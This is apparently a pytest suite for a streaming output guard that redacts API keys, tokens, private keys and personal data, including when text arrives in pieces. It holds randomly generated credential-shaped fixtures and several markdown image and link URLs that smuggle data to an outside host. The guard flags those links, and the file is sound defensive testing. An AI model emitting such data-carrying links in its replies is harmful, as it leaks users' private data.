"""Secrets and personal data are taken out of what leaves, whole or in pieces, and the rest leaves as it was."""

from __future__ import annotations

import base64
import json
import random
import re
import string
from collections.abc import Iterable, Iterator
from typing import Final, NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from accord.core.guard import Hit, Outcome, Treatment
from accord.guard.leaks import MARK, Leaks, redacted
from accord.guard.stream import Stream

RNG: Final = random.Random(5)
LETTERS: Final = string.ascii_letters + string.digits
BEFORE: Final = "Sure, here it is: "
AFTER: Final = " and that is all of it."
LEAKS: Final = Leaks()


def drawn(size: int, letters: str = LETTERS) -> str:
    return "".join(RNG.choice(letters) for _ in range(size))


def packed(value: object) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


class Kept(NamedTuple):
    """A secret, what stands around it, and how many characters of it may leave: those of its public prefix."""

    secret: str
    before: str = ""
    after: str = ""
    public: int = 5


HEADER: Final = packed({"alg": "HS256", "typ": "JWT"})
KEPT: Final = {
    "aws": Kept("AKIA" + drawn(16, "ABCDEFGHJKLMNPQRSTUVWXYZ234567")),
    "aws in words": Kept(drawn(40), "aws_secret_access_key = "),
    "github": Kept("ghp_" + drawn(36)),
    "github, fine": Kept(f"github_pat_{drawn(22)}_{drawn(59)}", public=11),
    "gitlab": Kept("glpat-" + drawn(20)),
    "slack": Kept(f"xoxb-{drawn(12, string.digits)}-{drawn(24)}"),
    "stripe": Kept("sk_live_" + drawn(24)),
    "openai": Kept("sk-proj-" + drawn(48)),
    "huggingface": Kept("hf_" + drawn(34, string.ascii_letters)),
    "anthropic": Kept(f"sk-ant-api03-{drawn(93)}AA"),
    "azure": Kept(f"{drawn(52, string.ascii_lowercase + string.digits)}JQQJ99{drawn(26)}"),
    "azure client": Kept(f"{drawn(3)}8Q~{drawn(32)}"),
    "telegram": Kept(f"{drawn(9, string.digits)}:AA{drawn(33)}"),
    "jwt": Kept(f"{HEADER}.{packed({'sub': '1', 'name': drawn(20)})}.{drawn(43)}"),
    "long jwt": Kept(f"{HEADER}.{packed({'sub': '1', 'name': drawn(900)})}.{drawn(43)}"),
    "long token": Kept("ops_eyJ" + drawn(600), public=7),
    "address": Kept("hunter2" + drawn(9), "postgres://bob:", "@db.example/x"),
    "assigned": Kept(drawn(20) + "!", 'password = "', '"'),
    "JSON": Kept(drawn(32), '{"api_key":"', '","x":1}'),
    "in words": Kept("a7" + drawn(12), "the password is "),
    "environment": Kept("a7" + drawn(18), "\nDB_PASSWORD=", "\n"),
    "YAML": Kept("a7" + drawn(22), "\ntoken: ", "\n"),
    "key": Kept(
        "MII" + "\n".join(drawn(64) for _ in range(12)),
        "-----BEGIN RSA PRIVATE KEY-----\n",
        "\n-----END RSA PRIVATE KEY-----",
    ),
}  # fmt: skip


def run(stream: Stream, parts: Iterable[str]) -> tuple[str, Hit | None]:
    said = [stream.feed(part) for part in parts]
    said.append(stream.end())
    return "".join(one.text for one in said), next((one.hit for one in said if one.hit), None)


def splits(text: str) -> Iterator[list[str]]:
    step = max(1, len(text) // 150)
    yield from ([text[:at], text[at:]] for at in range(0, len(text) + 1, step))
    yield from ([text[at : at + size] for at in range(0, len(text), size)] for size in (1, 2, 3, 5, 13))


def longest_shared(secret: str, out: str) -> int:
    best = 0
    for at in range(len(secret)):
        while at + best < len(secret) and secret[at : at + best + 1] in out:
            best += 1
    return best


@pytest.mark.parametrize("name", KEPT)
def test_a_secret_is_taken_out_of_a_whole_text(name: str) -> None:
    kept = KEPT[name]
    text = BEFORE + kept.before + kept.secret + kept.after + AFTER
    hits = LEAKS.hits(text)
    assert any(hit.outcome is Outcome.REDACT and hit.rule.startswith("secret:") for hit in hits)
    out = redacted(text, hits)
    assert longest_shared(kept.secret, out) <= 3
    assert out.startswith(BEFORE)
    assert out.endswith(AFTER)
    assert MARK in out


@pytest.mark.parametrize("name", KEPT)
def test_a_secret_does_not_leave_wherever_the_text_is_cut(name: str) -> None:
    kept = KEPT[name]
    text = BEFORE + kept.before + kept.secret + kept.after + AFTER
    for parts in splits(text):
        out, hit = run(Stream(LEAKS), parts)
        assert hit is not None
        assert hit.outcome is Outcome.REDACT
        assert longest_shared(kept.secret, out) <= kept.public, (parts[0][-20:], out)
        assert out.startswith(BEFORE)
        assert out.endswith(AFTER), (parts[0][-20:], out)
        assert MARK in out


@pytest.mark.parametrize("name", KEPT)
def test_a_secret_stops_the_text_where_the_policy_blocks(name: str) -> None:
    kept = KEPT[name]
    text = BEFORE + kept.before + kept.secret + kept.after + AFTER
    out, hit = run(Stream(Leaks(secrets=Treatment.BLOCK)), list(text))
    assert hit is not None
    assert hit.outcome is Outcome.BLOCK
    assert text.startswith(out)
    assert longest_shared(kept.secret, out) <= kept.public


def test_a_secret_that_is_only_flagged_leaves() -> None:
    text = BEFORE + KEPT["github"].secret + AFTER
    out, hit = run(Stream(Leaks(secrets=Treatment.FLAG)), [text])
    assert out == text
    assert hit is not None
    assert hit.outcome is Outcome.FLAG


def test_nothing_is_looked_for_where_the_policy_says_so() -> None:
    text = BEFORE + KEPT["github"].secret + AFTER
    leaks = Leaks(secrets=Treatment.OFF)
    assert leaks.hits(text) == ()
    assert run(Stream(leaks), list(text)) == (text, None)


@pytest.mark.parametrize(
    "text",
    [
        "The token count is 128, the secret is out, and the password field has a placeholder.",
        "See https://docs.example:8080/path/to/page?x=1#top, or key-value stores and patterns.",
        "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----\nThat was the public key.",
        "A private key begins with -----BEGIN PRIVATE KEY----- and ends with -----END PRIVATE KEY-----.",
        "commit 3f2a9c1d4e5b6f7a8b9c0d1e2f3a4b5c6d7e8f90 and 550e8400-e29b-41d4-a716-446655440000",
        "Set password = os.environ['DB_PASSWORD'] and api_key = config.get('key').",
        "x" * 3000 + " and " + "aB3" * 1000,
    ],
)
def test_what_only_looks_like_a_secret_leaves_unaltered(text: str) -> None:
    for parts in splits(text):
        assert run(Stream(LEAKS), parts) == (text, None)


@settings(max_examples=150, deadline=None)
@given(text=st.text(max_size=200), cut=st.integers(0, 200), size=st.integers(1, 9))
def test_any_text_leaves_unaltered_if_nothing_is_in_it(text: str, cut: int, size: int) -> None:
    stream = Stream(LEAKS)
    parts = [text[:cut], *(text[at : at + size] for at in range(cut, len(text), size))]
    if not LEAKS.hits(text):
        assert run(stream, parts) == (text, None)
    assert stream.held == 0


def test_two_secrets_and_a_canary_are_told_apart() -> None:
    leaks = Leaks(["K7f3-a9c2-1bd8-44e0-zQ91"])
    one, two = KEPT["github"].secret, KEPT["aws"].secret
    text = f"first {one}, then {two}; last K7f3-a9c2-1bd8-44e0-zQ91."
    assert [hit.outcome.value for hit in leaks.hits(text)] == ["redact", "redact", "block"]
    out, _ = run(Stream(leaks), list(text))
    # on the alert since the first, nothing leaves of the others
    assert re.fullmatch(r"first g?h?p?\[redacted\], then \[redacted\]; last ", out)


def test_a_secret_right_before_a_canary_does_not_leave_either() -> None:
    leaks = Leaks(["K7f3-a9c2-1bd8-44e0-zQ91"])
    secret = KEPT["github"].secret
    out, hit = run(Stream(leaks), list(f"take {secret}-K7f3-a9c2-1bd8-44e0-zQ91"))
    assert hit is not None
    assert longest_shared(secret, out) <= 5


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        ("jane.doe@mail-provider.co.uk", "email"),
        ("4556 7375 8689 9855", "card"),
        ("DE89 3704 0044 0532 0130 00", "iban"),
    ],
)
def test_personal_data_are_taken_out_where_the_policy_says_so(data: str, kind: str) -> None:
    text = f"You can reach her here: {data}, any time."
    assert not Leaks().hits(text)
    leaks = Leaks(personal=Treatment.REDACT)
    (hit,) = leaks.hits(text)
    assert kind in hit.rule
    assert text[hit.start : hit.end] == data
    for parts in splits(text):
        out, met = run(Stream(leaks), parts)
        assert met is not None
        assert out == f"You can reach her here: {MARK}, any time.", parts


@pytest.mark.parametrize(
    ("text", "flagged"),
    [
        ("![x](https://a.example/p.png?d=VGhlIHNlY3JldCBpcyA0Mg)", True),
        ("[see](https://a.example/?q=the-secret-plan-is-to-wait)", True),
        ("<img width=1 src='https://a.example/?d=VGhlIHNlY3JldCBpcyA0Mg'>", True),
        ("![x](https://a.example/p.png?w=600&h=400)", False),
        ("[see](https://good.example/?q=the-secret-plan-is-to-wait)", False),
        ("[see](https://a.example/a/long/path/to/the/documentation)", False),
    ],
)
def test_addresses_that_carry_data_away_are_flagged(text: str, flagged: bool) -> None:  # noqa: FBT001
    hits = Leaks(hosts=["good.example"]).hits(f"look: {text}")
    assert [(hit.rule, hit.outcome, hit.start) for hit in hits] == ([("address", Outcome.FLAG, 6)] if flagged else [])


def test_what_is_taken_out_twice_is_taken_out_once() -> None:
    hits = [
        Hit(rule="a", outcome=Outcome.REDACT, start=2, end=6),
        Hit(rule="b", outcome=Outcome.BLOCK, start=4, end=8),
        Hit(rule="c", outcome=Outcome.FLAG, start=0, end=1),
    ]
    assert redacted("0123456789", hits) == f"01{MARK}89"
